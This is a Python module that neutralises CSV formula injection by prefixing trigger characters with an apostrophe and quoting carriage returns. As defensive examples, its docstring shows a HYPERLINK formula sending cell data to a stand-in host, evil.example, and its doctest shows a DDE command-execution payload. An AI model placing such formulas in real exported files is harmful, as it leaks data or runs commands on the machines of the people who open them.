"""CSV cells a spreadsheet cannot run: OWASP's rule against formula injection.

A feed title such as ``=HYPERLINK("http://evil.example/?leak="&A2)`` is a formula once a
researcher opens the CSV in a spreadsheet. Every CSV dedup writes goes through
:func:`writer`: a text cell beginning with ``=``, ``+``, ``-``, ``@``, tab or carriage
return gets a leading ``'``, which spreadsheets show as text (the cell's value is otherwise
unchanged). Numbers such as ``-0.25`` are left alone: they are data, not formulas.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import IO, Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` neutralised if it is text a spreadsheet would evaluate.

    >>> safe_cell('=cmd|\\' /C calc\\'!A0')
    "'=cmd|' /C calc'!A0"
    >>> safe_cell("-0.25"), safe_cell(-3), safe_cell("plain")
    ('-0.25', -3, 'plain')
    """
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every cell goes through :func:`safe_cell`, rows ending in ``\n``.

    The csv module quotes a field only for the characters of its own line terminator, so
    with ``\n`` a bare carriage return inside a cell went out unquoted and split the row
    for every reader. Rows are written with ``\r\n`` (both quoted) and end in ``\n``.
    """

    def __init__(self, out: IO[str]) -> None:
        self._out = out
        self._buffer = io.StringIO()
        self._writer = csv.writer(self._buffer, lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> int:
        self._buffer.seek(0)
        self._buffer.truncate()
        self._writer.writerow([safe_cell(value) for value in row])
        line = self._buffer.getvalue()[:-2] + "\n"
        return self._out.write(line)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: IO[str]) -> SafeWriter:
    """A CSV writer (``\\n`` line ends) that neutralises formula-like cells."""
    return SafeWriter(out)
